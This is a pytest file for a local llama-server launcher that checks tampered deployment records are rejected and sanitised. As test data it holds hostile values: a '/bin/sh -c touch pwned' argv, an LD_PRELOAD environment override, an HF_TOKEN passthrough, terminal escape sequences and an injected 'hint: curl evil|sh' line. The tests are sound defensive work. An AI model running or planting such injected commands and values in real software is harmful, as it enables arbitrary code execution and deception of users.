"""A record starts what was typed, or what any file may start; a broken one hides nothing else."""

from __future__ import annotations

import json
import os
import signal
import subprocess
from collections.abc import Iterator
from dataclasses import replace
from pathlib import Path
from typing import Any

import psutil
import pytest

from launcher.cli.main import execute
from launcher.commands.restart import restart
from launcher.deployment.check_record import check_record
from launcher.deployment.deploy import bring_up
from launcher.deployment.identity import lives
from launcher.deployment.options import SupervisorOptions
from launcher.deployment.record import Deployment, Phase, UnreadableRecord, record_json
from launcher.deployment.records import find_record, save_record
from launcher.engine.capabilities import read_capabilities
from launcher.engine.find import find_engine
from launcher.errors import UsageError
from launcher.progress import silent
from launcher.system.settings import read_settings
from tests.conftest import end_everything
from tests.deployment.recorded import a_deployment
from tests.serving import a_request, fake_command, record_of, stub_model, until


@pytest.fixture
def deployments() -> Iterator[Path]:
    """The folder that commands use."""
    folder = read_settings().deployments_dir
    folder.mkdir(parents=True)
    yield folder
    end_everything(folder)


def edit(folder: Path, name: str = "m", **changes: Any) -> None:
    path = folder / f"{name}.json"
    path.write_text(json.dumps({**json.loads(path.read_text()), **changes}))


def an_engine(tmp_path: Path) -> Path:
    """The fake engine as a program of its own."""
    program = tmp_path / "llama-server"
    program.write_text(f"#!/bin/sh\ncat {CAPTURES}/$(echo $1 | tr -d -)-0c1e570.txt\n")
    program.chmod(0o755)
    return program


CAPTURES = Path(__file__).parents[1] / "captures" / "engine"
SERVED = ("-m", "/models/m.gguf", "--host", "127.0.0.1", "--port", "1234")


def test_a_record_names_no_program(deployments: Path, tmp_path: Path) -> None:
    engine = an_engine(tmp_path)
    for program in ("/bin/sh", "llama-server", str(engine)):
        save_record(deployments, a_deployment(argv=(program, "-c", "id"), process=None))
        with pytest.raises(
            UsageError, match=f"names the program {program}, which is no llama-server"
        ) as caught:
            restart("m", silent)
        assert caught.value.hint is not None
        assert caught.value.hint.startswith("launcher stop m; then launcher up /models/m.gguf --name m")
    read_capabilities(find_engine(engine, None, tmp_path), read_settings().cache_dir)
    record = a_deployment(argv=(str(engine), *SERVED, "-c", "512"), process=None)
    checked = check_record(deployments, replace(record, options=HOSTILE), read_settings)
    assert checked.argv == record.argv
    assert replace(checked.options, claim_folder=None, history=None) == SupervisorOptions(keep_up=True)


HOSTILE = SupervisorOptions(
    keep_up=True,
    idle_s=1e18,
    busy_s=1e18,
    grace_s=1e18,
    check_s=1e18,
    history="/etc/x",
    claim_folder="/etc",
    env={"LD_PRELOAD": "/x.so"},
    passed=("HF_TOKEN",),
)


@pytest.mark.parametrize(
    ("words", "problem"),
    [
        (("--tools", "all"), "has the flag '--tools'"),
        (("--host", "0.0.0.0"), "has the flag '--host'"),
        (("--log-file", "/etc/x"), "has the flag '--log-file'"),
        (("--slot-save-path", "/"), "has the flag '--slot-save-path'"),
        (("-hf", "user/repo"), "-hf after -- is launcher's to set"),
        (("--version",), "--version after -- cannot be"),
        (("--brand-new", "1"), "has the flag '--brand-new'"),
    ],
)
def test_flags_of_a_record_pass_the_gates(
    deployments: Path, tmp_path: Path, words: tuple[str, ...], problem: str
) -> None:
    engine = an_engine(tmp_path)
    read_capabilities(find_engine(engine, None, tmp_path), read_settings().cache_dir)
    save_record(deployments, a_deployment(argv=(str(engine), *SERVED, *words), process=None))
    with pytest.raises(UsageError, match=problem) as caught:
        restart("m", silent)
    assert "/models/m.gguf --name m -- FLAGS" in str(caught.value.hint)


def test_what_was_typed_may_be_started_again(deployments: Path, tmp_path: Path) -> None:
    command = fake_command("--take-vram", str(tmp_path / "v"), "1")  # of no llama-server we know
    first = bring_up(deployments, a_request("m", command, stub_model(tmp_path)))
    second = restart("m", silent)
    assert (second.argv, second.seal) == (first.argv, first.seal)
    edit(deployments, argv=[*first.argv, "--tools", "all"])
    with pytest.raises(UsageError, match="the record of m "):
        restart("m", silent)
    assert lives(second.pid or 0)


def test_an_edited_record_is_not_taken_up_by_a_supervisor(deployments: Path, tmp_path: Path) -> None:
    first = bring_up(deployments, a_request("m", fake_command(), stub_model(tmp_path), keep_up=True))
    assert first.supervisor is not None
    argv = psutil.Process(first.supervisor.pid).cmdline()
    os.kill(first.supervisor.pid, signal.SIGKILL)
    until(lambda: not lives(first.pid or 0))
    edit(deployments, argv=["/bin/sh", "-c", f"touch {tmp_path}/pwned"])
    assert subprocess.run(argv, check=False).returncode == 5
    record = record_of(deployments)
    assert record.phase is Phase.FAILED
    assert record.failure is not None
    assert record.failure.sentence.startswith("the record of m names the program /bin/sh")
    assert not (tmp_path / "pwned").exists()


@pytest.mark.parametrize(
    "changes",
    [
        {"argv": []},
        {"argv": ["/usr/bin/taskset", "--cpu-list", "0"]},
        {"argv": ["a\0b"]},
        {"port": 10**30},
        {"model_bytes": 10**40},
        {"url": "http://elsewhere:1234"},
        {"url": "\x1b]0;PWN\x07\nhint: curl evil|sh"},
        {"host": "evil/\n@x"},
        {"phase": "x" * 100_000},
        {"schema": {"a": "\n" * 1000}},
        {"options": {"claim": {"ram": 10**40}}},
        {"process": {"pid": 1, "start_time": 10**400, "boot_id": None, "hostname": "h"}},
        {"restarts": -1},
        {
            "failure": {
                "kind": "other",
                "sentence": "x\nhint: curl evil|sh",
                "remedy": "\x1b[2J",
                "had_bytes": 10**40,
            }
        },
    ],
)
def test_a_broken_record_is_one_sentence(
    deployments: Path, changes: dict[str, Any], capsys: pytest.CaptureFixture[str]
) -> None:
    save_record(deployments, a_deployment("good", process=None, starter=None))
    (deployments / "bad.json").write_text(
        json.dumps({**record_json(a_deployment("bad", process=None)), **changes})
    )
    entry = find_record(deployments, "bad")
    assert isinstance(entry, UnreadableRecord)
    assert len(entry.problem) < 300
    assert entry.problem.isprintable()
    for command in (["ps"], ["ps", "--json"], ["doctor"], ["restart", "bad"], ["stop", "--all"]):
        assert execute(command) in {0, 1, 2}
        out, err = capsys.readouterr()
        assert "\x1b" not in out + err
        assert "internal" not in out + err
        assert not any(line.startswith("hint: curl") for line in (out + err).splitlines())
        assert "good" in out + err or command[0] == "restart"
    assert find_record(deployments, "bad") is find_record(deployments, "good") is None


def test_text_of_a_record_stays_on_its_line(deployments: Path, capsys: pytest.CaptureFixture[str]) -> None:
    text = "x\x1b[2J\r\nhint: curl evil|sh"
    failure = {"kind": "other", "sentence": text, "remedy": text}
    record = record_json(a_deployment("m", process=None, supervisor=None))
    (deployments / "m.json").write_text(
        json.dumps({**record, "phase": "failed", "failure": failure, "model_id": text, "model_path": text})
    )
    assert isinstance(find_record(deployments, "m"), Deployment)
    (deployments / "m.log").write_text(f"a log line\n{text}\n")
    for command in (["ps"], ["doctor"], ["restart", "m"], ["logs", "m"], ["export", "shell", "m"]):
        execute(command)
        out, err = capsys.readouterr()
        assert "\x1b" not in out + err
        assert not any(line.startswith("hint: curl") for line in (out + err).splitlines()), command


@pytest.mark.parametrize("kind", ["fifo", "folder", "dangling", "zero", "loop", "hard link"])
def test_a_record_that_is_no_file_hides_nothing(
    deployments: Path, tmp_path: Path, kind: str, capsys: pytest.CaptureFixture[str]
) -> None:
    save_record(deployments, a_deployment("good", process=None, starter=None))
    bad = deployments / "bad.json"
    match kind:
        case "fifo":
            os.mkfifo(bad)
        case "folder":
            bad.mkdir()
        case "dangling":
            bad.symlink_to("/nonexistent/x")
        case "zero":
            bad.symlink_to("/dev/zero")
        case "loop":
            bad.symlink_to(bad)
        case _:
            (tmp_path / "other").write_text("{}")
            bad.hardlink_to(tmp_path / "other")
    for command in (["ps"], ["ps", "--json"], ["stop", "--all"]):
        assert execute(command) in {0, 1, 2}
        out, err = capsys.readouterr()
        assert "good" in out
        assert "internal" not in out + err
